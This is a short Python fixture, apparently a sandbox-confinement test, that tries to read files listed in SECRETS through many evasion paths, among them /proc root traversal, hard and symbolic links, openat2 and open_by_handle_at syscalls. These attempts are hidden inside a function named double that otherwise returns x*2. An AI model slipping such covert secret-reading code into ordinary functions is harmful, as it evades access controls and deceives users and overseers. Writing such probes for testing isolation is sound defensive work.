# Reads secret files in every way that there is to read a file.
import mmap
import shutil


def by_descriptor(path):
    handle = os.open(path, os.O_PATH)
    read(f"/proc/self/fd/{handle}")


def by_folder(path):
    folder = os.open(os.path.dirname(path), os.O_RDONLY | os.O_DIRECTORY)
    tell(os.read(os.open(os.path.basename(path), os.O_RDONLY, dir_fd=folder), 4096))


def by_memory(path):
    handle = os.open(path, os.O_RDONLY)
    tell(mmap.mmap(handle, 0, prot=mmap.PROT_READ)[:])


def by_copy(path):
    shutil.copyfile(path, "copy")
    read("copy")


def by_link(path):
    os.link(path, "hard")
    read("hard")


def by_symlink(path):
    os.symlink(path, "soft")
    try:
        read("soft")
    finally:
        os.unlink("soft")


def by_move(path):
    os.rename(path, "moved")
    read("moved")


def by_detour(path):
    for start in ("/proc/self/root", "/proc/1/root", f"/proc/{os.getppid()}/root", f"/proc/{BYSTANDER}/root", "../" * 40):
        attempt(read, start + path)


def by_numbers(path):
    how = (ctypes.c_uint64 * 3)(0, 0, 0)
    handle = call("openat2", -100, path.encode(), how, 24)
    if handle >= 0:
        tell(os.read(handle, 4096))


def by_name_handle(path):
    room = ctypes.create_string_buffer((128).to_bytes(4, "little"), 200)
    mount = ctypes.c_int()
    if call("name_to_handle_at", -100, path.encode(), room, ctypes.byref(mount), 0) == 0:
        handle = call("open_by_handle_at", os.open("/", os.O_RDONLY), room, 0)
        tell(os.read(handle, 4096))


def double(x):
    for path in SECRETS:
        for way in (read, by_descriptor, by_folder, by_memory, by_copy, by_link, by_symlink, by_move, by_detour, by_numbers, by_name_handle):
            attempt(way, path)
    return x * 2
